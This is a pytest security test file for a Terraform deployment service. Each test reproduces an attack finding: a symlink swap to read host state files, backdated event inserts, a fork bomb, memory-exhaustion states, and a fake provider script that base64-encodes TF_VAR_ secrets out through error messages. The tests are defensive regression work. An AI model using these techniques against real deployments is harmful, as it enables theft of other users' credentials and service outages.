"""Attacks on tfdeploy as a hostile user would make them: each test names the finding it
demonstrates (docs: the report of the `attack` branch). Real PostgreSQL, the real app over HTTPX,
real workers with the local runner in bubblewrap."""

from __future__ import annotations

import asyncio
import json
import shutil
import stat
import time
from pathlib import Path

import pytest
from test_execution import harness

pytestmark = pytest.mark.skipif(
    not shutil.which("terraform") or not shutil.which("bwrap"), reason="needs terraform and bwrap"
)

REAL_TERRAFORM = shutil.which("terraform") or "/usr/local/bin/terraform"


def hostile_terraform(tmp_path: Path, on_plan: str) -> str:
    """A stand-in for a provider that runs code at plan time (hashicorp/external, or any provider
    a user publishes on the registry): a wrapper around the real terraform that runs ``on_plan``
    (shell, in terraform's working directory, inside the sandbox) before ``terraform plan``."""
    path = tmp_path / "terraform-with-plan-time-code"
    path.write_text(
        "#!/bin/sh\n"
        f'if [ "$1" = plan ]; then {on_plan}\nfi\n'
        f'exec {REAL_TERRAFORM} "$@"\n'
    )
    path.chmod(path.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH | stat.S_IRGRP | stat.S_IROTH)
    return str(path)


async def state_versions(h) -> list[dict]:
    r = await h.client.get("/workspaces/site/states")
    return r.json()["items"] if r.status_code == 200 else []


ONE = 'resource "terraform_data" "a" { input = "a" }\n'

# A fresh tfstate on every plan: a new serial each time, so never a persisted version.
REWRITE_STATE = (
    "printf '{\"version\":4,\"terraform_version\":\"1.11.4\",\"serial\":%s,\"lineage\":\"planted\","
    "\"outputs\":{},\"resources\":[]}' \"$(date +%s%N | cut -c1-15)\" > terraform.tfstate"
)


# FINDING 1: a plan run's state file is persisted when the run changed it, and the attempt is
# retried without counting it (plan_stale, counted=False, budget +1): a configuration that
# rewrites terraform.tfstate at plan time makes a speculative plan ("never changes state")
# write a new state version on every attempt, forever -- the deploy never ends, holds a runner
# slot in a loop and fills the state store.
async def test_speculative_plan_neither_writes_state_nor_loops(database_url, tmp_path, runner_image, monkeypatch):
    monkeypatch.setenv("TFDEPLOY_TERRAFORM", hostile_terraform(tmp_path, REWRITE_STATE))
    async with harness(database_url, tmp_path, "local", runner_image, max_attempts=2) as h:
        first = await h.submit({"main.tf": ONE}, workspace="site")
        assert (await h.wait(first["id"]))["status"] == "succeeded"
        before = await state_versions(h)
        assert len(before) == 1
        plan = await h.submit({"main.tf": ONE}, workspace="site", action="plan")
        deadline = time.monotonic() + 45
        status = None
        while time.monotonic() < deadline:
            status = (await h.client.get(f"/deploys/{plan['id']}")).json()
            if status["status"] in ("succeeded", "failed"):
                break
            await asyncio.sleep(0.2)
        after = await state_versions(h)
        assert status is not None and status["status"] in ("succeeded", "failed"), (
            f"the speculative plan never ends: attempt {status and status['attempt']}, "
            f"{len(after)} state versions"
        )
        assert len(after) == len(before), "a speculative plan wrote state versions"


# FINDING 2: the local runner reads what a run left (terraform.tfstate, .terraform.lock.hcl in
# config/) with O_NOFOLLOW on the last component only. The run owns config/ and may swap it for
# a symlink: the WORKER then follows it on the host, outside the sandbox, and keeps whatever
# regular file named terraform.tfstate it finds there as the attacker's state -- readable back
# through GET /workspaces/{ref}/state. /proc/<pid>/cwd of another run's terraform leads into that
# run's config directory (another user's state); here a host directory stands for it.
async def test_a_run_cannot_make_the_worker_read_host_files_through_its_config_dir(
    database_url, tmp_path, runner_image
):
    elsewhere = tmp_path / "host-only"  # not in the sandbox's view
    elsewhere.mkdir()
    (elsewhere / "terraform.tfstate").write_text(
        '{"version":4,"terraform_version":"1.11.4","serial":7,"lineage":"victim",'
        '"outputs":{"db_password":{"value":"VICTIM-SECRET-42","type":"string"}},"resources":[]}'
    )
    swap = f"cd .. && mv config config.real && ln -s {elsewhere} config && echo swapped"
    config = (
        'resource "terraform_data" "swap" {\n'
        f'  provisioner "local-exec" {{ command = "{swap}" }}\n'
        "}\n"
    )
    async with harness(database_url, tmp_path, "local", runner_image, max_attempts=1) as h:
        d = await h.submit({"main.tf": config}, workspace="loot")
        done = await h.wait(d["id"])
        logs = await h.logs(d["id"])
        assert "swapped" in logs, logs
        state = await h.client.get("/workspaces/loot/state")
        assert "VICTIM-SECRET-42" not in state.text, (done, state.text)


# FINDING 3: the service role may INSERT into events with OVERRIDING SYSTEM VALUE, choosing the
# global position: an event slipped in BEFORE what readers have seen (a position in a gap left by
# a rolled-back append, or below every position: 0, -1). Followers of the global feed
# ("position > N": GET /events/stream, `tfdeploy events --follow`) never receive it, and the
# audit query shows it in the past: history rewritten without an UPDATE. (Threat model: a
# compromised service "cannot rewrite or erase history".)
def test_the_service_role_cannot_put_an_event_before_the_ones_already_appended(database_url):
    import uuid

    import psycopg

    with psycopg.connect(database_url, autocommit=True) as conn:
        conn.execute(
            "INSERT INTO events (deploy_id, version, type, data, actor) "
            "VALUES (%s, 1, 'Requested', '{}', 'user:ann')",
            (str(uuid.uuid4()),),
        )
        with pytest.raises(psycopg.Error):
            conn.execute(
                "INSERT INTO events (position, deploy_id, version, type, data, actor) "
                "OVERRIDING SYSTEM VALUE VALUES (-1, %s, 1, 'Requested', '{}', 'user:mallory')",
                (str(uuid.uuid4()),),
            )
        first = conn.execute("SELECT min(position), count(*) FROM events").fetchone()
        assert first is not None and first[0] >= 1, first


# FINDING 4: a `deploy` member's terraform lock outlives their membership. Only admins may
# force-unlock, and the holder can unlock only while they may still deploy: once the owner
# removes (or demotes to `read`) a member who holds the lock -- a killed terraform, or on
# purpose -- the owner's workspace stays locked, its deploys queued, until an admin steps in.
@pytest.mark.parametrize("change", ["remove", "demote"])
async def test_a_removed_member_does_not_keep_the_owners_workspace_locked(client, tokens, change):
    from test_tfstate import Cli, tfstate

    ann, bob = Cli(client, tokens["ann"]), Cli(client, tokens["bob"])
    auth = {"Authorization": f"Bearer {tokens['ann']}"}
    assert (await ann.put("prod", tfstate(1))).status_code == 200
    r = await client.put("/workspaces/prod/members/bob", json={"role": "deploy"}, headers=auth)
    assert r.status_code == 201, r.text
    assert (await bob.lock("ann:prod", "bobs-lock")).status_code == 200
    if change == "remove":
        r = await client.delete("/workspaces/prod/members/bob", headers=auth)
        assert r.status_code == 204, r.text
    else:
        r = await client.put("/workspaces/prod/members/bob", json={"role": "read"}, headers=auth)
        assert r.status_code == 200, r.text
    # bob can no longer unlock it himself ...
    assert (await bob.unlock("ann:prod", "bobs-lock")).status_code in (403, 404)
    # ... so the owner must not be left locked out of her own workspace.
    r = await ann.lock("prod", "anns-lock")
    assert r.status_code == 200, r.text


# FINDING 5: a deploy a `deploy` member queued still ran after the owner removed them -- its
# first attempt, or any retry, however much later -- against the workspace's state of THEN, and
# its requester still read its logs (their own history). Fixed: when an attempt is about to
# start, the worker asks again whether the requester may deploy there (not disabled; owner,
# admin or `deploy` member); if not, the attempt fails at once with `access_revoked` (final).
async def test_a_removed_members_queued_deploy_does_not_run(database_url, tmp_path, runner_image):
    import httpx
    from test_tfstate import Cli

    from service.auth import create_token

    async with harness(database_url, tmp_path, "local", runner_image, max_attempts=1) as h:
        async with h.services.pool.connection() as conn:
            bob_token = await create_token(conn, "bob")
        bob = httpx.AsyncClient(
            transport=h.client._transport,
            base_url="http://test",
            headers={"Authorization": f"Bearer {bob_token}"},
        )
        first = await h.submit({"main.tf": ONE}, workspace="prod")
        assert (await h.wait(first["id"]))["status"] == "succeeded"
        r = await h.client.put("/workspaces/prod/members/bob", json={"role": "deploy"})
        assert r.status_code == 201
        ann_cli = Cli(h.client, h.token)
        assert (await ann_cli.lock("prod", "ann-lock")).status_code == 200
        steal = (
            'resource "terraform_data" "steal" {\n'
            '  provisioner "local-exec" { command = "cat terraform.tfstate" }\n'
            "}\n"
        )
        r = await bob.post("/deploys", json={"files": {"main.tf": steal}, "workspace": "ann:prod"})
        assert r.status_code == 202, r.text
        queued = r.json()
        assert (await h.client.delete("/workspaces/prod/members/bob")).status_code == 204
        # The owner changes her infrastructure with her terraform, then releases the lock.
        state = json.loads((await ann_cli.get("prod")).content)
        state["serial"] += 1
        state["outputs"] = {"db": {"value": "OWNERS-NEXT-SECRET", "type": "string"}}
        written = await ann_cli.put("prod", json.dumps(state).encode(), lock_id="ann-lock")
        assert written.status_code == 200, written.text
        assert (await ann_cli.unlock("prod", "ann-lock")).status_code == 200
        ended = await h.wait(queued["id"])
        logs = (await bob.get(f"/deploys/{queued['id']}/logs")).text
        await bob.aclose()
        assert "OWNERS-NEXT-SECRET" not in logs
        # Fixed: the requester's standing is checked again when an attempt starts; final.
        assert ended["status"] == "failed", ended
        assert ended["error"]["reason"] == "access_revoked", ended
        assert "may no longer deploy" in ended["error"]["message"]
        assert ended["attempt"] == 1


# FINDING 6: a tfstate is bounded in bytes (TFDEPLOY_MAX_STATE_BYTES, 64 MiB), not in what it
# costs to parse. A state of millions of tiny values (`"instances": [{},{},...]`, an output of
# `[[],[],...]`) -- written by the attacker's own terraform CLI or left by their own deploy --
# took, for a 64 MiB state: 3.7 GB and 12 s of CPU per GET /workspaces/{ref}/resources,
# 1.6 GB per GET .../outputs, 1.6 GB per CLI write (state_meta) and 1.5 GB per shape check (every
# CLI write, every run's state). A handful of GETs at once (50 requests/s allowed) takes the
# API process -- every user's -- down by memory.
PARSE_PROBE = r'''
import resource, sys
from service.api.workspaces import LIST_MAX, outputs_of, resources_of
from service.runners.statecheck import state_shape_problem
from service.statestores.index import state_meta
import msgspec
size = int(sys.argv[2])
n = size // 3
head = b'{"version":4,"terraform_version":"1.11.4","serial":1,"lineage":"x",'
if sys.argv[1] in ("resources", "shape"):
    content = head + b'"outputs":{},"resources":[{"type":"t","name":"n","instances":[' + (b"{}," * n)[:-1] + b"]}]}"
else:
    content = head + b'"outputs":{"o":{"type":"x","value":[' + (b"[]," * n)[:-1] + b"]}},\"resources\":[]}"
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
fn = {"resources": lambda c: resources_of(c, LIST_MAX + 1), "outputs": outputs_of, "shape": state_shape_problem, "meta": state_meta}[sys.argv[1]]
result = fn(content)
if sys.argv[1] in ("resources", "outputs"):
    msgspec.json.encode(result)
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024)
'''


@pytest.mark.parametrize(("what", "factor"), [("shape", 2), ("meta", 2), ("outputs", 3), ("resources", 16)])
def test_parsing_a_pathological_state_costs_a_bounded_multiple_of_its_size(what, factor, tmp_path):
    import subprocess
    import sys

    size = 16 * 2**20
    probe = tmp_path / "probe.py"
    probe.write_text(PARSE_PROBE)
    root = Path(__file__).resolve().parent.parent
    out = subprocess.run(
        [sys.executable, str(probe), what, str(size)], capture_output=True, text=True, cwd=root, timeout=300
    )
    assert out.returncode == 0, out.stderr
    grew = int(out.stdout.split()[-1])
    assert grew <= factor * size, f"{what}: {grew / 2**20:.0f} MiB for a {size / 2**20:.0f} MiB state"


# FINDING 7: the local runner's sandbox has no resource limits at all (the Docker runner has
# TFDEPLOY_RUNNER_PIDS / _MEMORY / _CPUS): a configuration's fork bomb runs out the host's
# processes -- PostgreSQL, the API, every other user's runs -- and its memory hog meets only the
# host's OOM killer. Shown here with a bounded number of sleeping processes.
async def test_the_local_sandbox_bounds_how_many_processes_a_run_may_start(tmp_path):
    from test_runners import make_settings, run_tf

    from service.runners.local import LocalRunner

    # One run at a time: the user's cap is runner_pids x max_concurrency (the sandbox user's, host-wide).
    runner = LocalRunner(make_settings(tmp_path, runner_pids=64, max_concurrency=1))
    spawn = (
        "i=0; while [ $i -lt 300 ]; do sleep 20 & i=$((i+1)); done; "
        "echo PROCESSES $(ls /proc | grep -c '^[0-9]')"
    )
    config = f'resource "terraform_data" "bomb" {{\n  provisioner "local-exec" {{ command = "{spawn}" }}\n}}\n'
    run = await run_tf(runner, config)
    import re

    counts = [int(m.group(1)) for m in re.finditer(r"PROCESSES (\d+)$", run.text, re.M)]
    # Bounded: the shell's fork fails ("Cannot fork") before the 300th process.
    assert "Cannot fork" in run.text or (counts and counts[0] <= 64), (counts, run.text[-2000:])


# FINDING 8: secrets are masked in logs and failure messages, but not in a plan's addresses: a
# secret that names a resource instance (for_each over it, a count key...) is kept in clear in
# the Planned event -- GET /deploys/{id}/plan, /events, the SSE streams, the audit trail, for
# every reader of the workspace -- though "secrets never appear in events".
async def test_a_secret_never_appears_in_a_plans_addresses(database_url, tmp_path, runner_image):
    config = (
        'variable "token" {}\n'
        'resource "terraform_data" "per_token" {\n'
        "  for_each = toset([var.token])\n"
        "  input    = each.key\n"
        "}\n"
    )
    async with harness(database_url, tmp_path, "local", runner_image) as h:
        d = await h.submit(
            {"main.tf": config}, workspace="site", action="plan", secrets={"token": "TOPSECRET-77"}
        )
        done = await h.wait(d["id"])
        assert done["status"] == "succeeded", done
        plan = (await h.client.get(f"/deploys/{d['id']}/plan")).text
        events = (await h.client.get(f"/deploys/{d['id']}/events")).text
        logs = await h.logs(d["id"])
        assert "TOPSECRET-77" not in logs
        assert "per_token" in plan, plan
        assert "TOPSECRET-77" not in plan, plan
        assert "TOPSECRET-77" not in events


# FINDING 9 (by design, docs/workspaces.md): a `deploy` member plants code that runs in the OWNER's later
# deploys, with the owner's secrets. terraform init installs the providers the STATE names, not
# only the configuration's, and terraform starts them to plan or destroy what the state holds:
# bob writes a state (his terraform CLI, or a deploy of his) with one resource of a provider he
# published (here: the operator's mirror stands for the public registry); ann's next deploy,
# with her cloud credentials as secrets, starts that provider, which hands them to bob through
# the failure message (base64: the mask sees only the value itself) that bob, a member, reads.
EVIL_PROVIDER = """#!/bin/sh
# not a provider: the handshake line terraform quotes back in its error is the env, encoded
printf '%s\\n' "$(env | grep '^TF_VAR_' | base64 -w0)"
exit 1
"""


@pytest.mark.xfail(
    strict=True,
    reason="by design (docs/workspaces.md): `deploy` membership is trusted with the secrets of "
    "the owner's runs, since terraform starts every provider the state names and a member writes "
    "the state; refusing providers the root configuration does not name would break registry "
    "modules. This test fails while that trust holds.",
)
async def test_a_deploy_member_cannot_run_code_with_the_owners_secrets(database_url, tmp_path, runner_image):
    import base64

    import httpx
    from test_tfstate import Cli

    from service.auth import create_token

    package = tmp_path / "mirror" / "registry.terraform.io" / "bob" / "evil" / "1.0.0" / "linux_amd64"
    package.mkdir(parents=True)
    binary = package / "terraform-provider-evil_v1.0.0"
    binary.write_text(EVIL_PROVIDER)
    binary.chmod(0o755)
    for d in [tmp_path, *package.relative_to(tmp_path).parents]:
        (tmp_path / d).chmod(0o755)
    package.chmod(0o755)
    async with harness(
        database_url, tmp_path, "local", runner_image, max_attempts=1,
        provider_mirror=str(tmp_path / "mirror"),
    ) as h:
        async with h.services.pool.connection() as conn:
            bob_token = await create_token(conn, "bob")
        first = await h.submit({"main.tf": ONE}, workspace="prod")
        assert (await h.wait(first["id"]))["status"] == "succeeded"
        assert (await h.client.put("/workspaces/prod/members/bob", json={"role": "deploy"})).status_code == 201
        bob = Cli(h.client, bob_token)
        state = json.loads((await bob.get("ann:prod")).content)
        state["serial"] += 1
        state["resources"].append({
            "mode": "managed", "type": "evil_thing", "name": "x",
            "provider": 'provider["registry.terraform.io/bob/evil"]',
            "instances": [{"schema_version": 0, "attributes": {"id": "1"}}],
        })
        assert (await bob.put("ann:prod", json.dumps(state).encode())).status_code == 200
        # ann deploys as she always does, with her credentials as a secret.
        d = await h.submit({"main.tf": ONE}, workspace="prod", secrets={"cloud_key": "ANN-CLOUD-KEY-123"})
        await h.wait(d["id"])
        async with httpx.AsyncClient(
            transport=h.client._transport, base_url="http://test",
            headers={"Authorization": f"Bearer {bob_token}"},
        ) as as_bob:
            seen = (await as_bob.get(f"/deploys/{d['id']}/events")).text
            seen += (await as_bob.get(f"/deploys/{d['id']}/logs")).text
        decoded = ""
        for word in seen.replace('"', " ").replace("\\n", " ").split():
            try:
                decoded += base64.b64decode(word, validate=True).decode(errors="replace")
            except ValueError:
                continue
        assert "ANN-CLOUD-KEY-123" not in decoded, decoded


# FINDING 10: a cache fill clears "its" stale staging directories by the glob `<key>-*`, where
# the key is host__namespace__type: hashicorp/google's fill (any user can make one happen, with
# a new constraint each time) removes the staging directory of a fill of hashicorp/google-beta
# in progress, under another provider's lock -- that fill fails, is remembered as failed for
# 60 s, and the deploys waiting for it go on without the cache.
def test_a_fill_never_clears_another_providers_staging(tmp_path):
    from service.providers.cache import ProviderCache
    from service.providers.cliconfig import Method
    from service.providers.requirements import Provider

    cache = ProviderCache(
        tmp_path / "cache", terraform="/bin/true", platform="linux_amd64",
        methods=[Method("direct")], environ={},
    )
    beta = Provider("registry.terraform.io", "hashicorp", "google-beta")
    google = Provider("registry.terraform.io", "hashicorp", "google")
    in_progress = cache._stage(beta, "6.0.0", (), None)  # a fill of google-beta, running
    mine = cache._stage(google, "6.0.0", (), None)  # then google's starts
    assert mine.exists()
    assert in_progress.exists(), "google's fill removed google-beta's staging directory"


# HELD UP: another user's workspace through any spelling of its ref, on every workspace route
# and the http backend (Bearer and Basic), is the same 404 as a name nobody has.
REFS = [
    "ann:prod", "ann%3Aprod", "ANN:prod", "ann:PROD", "Ann:prod", " ann:prod", "ann:prod ",
    "ann:prod%00", "ann%00:prod", "%D0%B0nn:prod", "ann::prod", ":prod", "ann:", "..%2Fann:prod",
    "ann%2Fprod", "root:..%2Fann%3Aprod", "ann:prod%2F..", "ann:pro%64",
]


async def test_another_users_workspace_is_404_under_every_spelling(client, tokens):
    from test_tfstate import Cli, basic, tfstate

    ann = Cli(client, tokens["ann"])
    assert (await ann.put("prod", tfstate(1))).status_code == 200
    bob = {"Authorization": f"Bearer {tokens['bob']}"}
    for ref in REFS:
        for path in ("state", "states", "states/1", "outputs", "resources", "members", "tfstate"):
            r = await client.get(f"/workspaces/{ref}/{path}", headers=bob)
            assert r.status_code == 404, (ref, path, r.status_code, r.text)
            assert "prod" not in r.text.replace(ref, ""), (ref, path, r.text)
        r = await client.get(f"/workspaces/{ref}/tfstate", headers=basic(tokens["bob"]))
        assert r.status_code == 404, (ref, r.status_code)
        r = await client.request("LOCK", f"/workspaces/{ref}/tfstate/lock", headers=bob, content=b'{"ID":"x"}')
        assert r.status_code in (400, 404, 405), (ref, r.status_code, r.text)
        r = await client.get("/deploys", params={"workspace": ref.replace("%3A", ":")}, headers=bob)
        assert r.status_code in (404, 422), (ref, r.status_code)
        r = await client.get("/events", params={"workspace": ref.replace("%3A", ":")}, headers=bob)
        assert r.status_code in (404, 422), (ref, r.status_code)
    # and bob's own deploy to "ann:prod" neither reaches ann's nor makes one for him
    r = await client.post("/deploys", headers=bob, json={"workspace": "ann:prod", "files": {"main.tf": ONE}})
    assert r.status_code == 404, r.text


@pytest.mark.parametrize(
    ("user", "owner", "admin", "disabled", "role", "allowed"),
    [
        ("ann", "ann", False, False, None, True),
        ("bob", "ann", False, False, "deploy", True),
        ("bob", "ann", True, False, None, True),
        ("bob", "ann", False, False, "read", False),
        ("bob", "ann", False, False, None, False),
        ("ann", "ann", False, True, None, False),
        ("bob", "ann", True, True, "deploy", False),
    ],
)
def test_who_may_still_have_a_queued_deploy_run(user, owner, admin, disabled, role, allowed):
    from service.workspaces import requester_lost_access

    reason = requester_lost_access(user, owner, admin, disabled, role)
    assert (reason is None) is allowed, reason


async def test_a_disabled_users_queued_deploy_does_not_run(database_url, tmp_path, runner_image):
    from test_tfstate import Cli

    from service.auth import disable_user

    async with harness(database_url, tmp_path, "local", runner_image, max_attempts=3) as h:
        first = await h.submit({"main.tf": ONE}, workspace="prod")
        assert (await h.wait(first["id"]))["status"] == "succeeded"
        # Her own CLI lock holds the next deploy in the queue while an admin disables her.
        cli = Cli(h.client, h.token)
        assert (await cli.lock("prod", "held")).status_code == 200
        queued = await h.submit({"main.tf": ONE}, workspace="prod")
        async with h.services.pool.connection() as conn:
            await disable_user(conn, "ann")
        async with h.services.pool.connection() as conn, conn.cursor() as cur:
            await cur.execute("DELETE FROM workspace_locks")
            await cur.execute("SELECT pg_notify('tfdeploy_dispatch', '')")
        # Her token is refused now: read the deploy's view directly.
        deadline = time.monotonic() + 30
        while (view := await h.services.deploys.get(queued["id"])).status not in ("failed", "succeeded"):
            assert time.monotonic() < deadline, view
            await asyncio.sleep(0.1)
        assert view.status == "failed", view
        assert view.error is not None and view.error.reason == "access_revoked"
        assert "disabled" in view.error.message
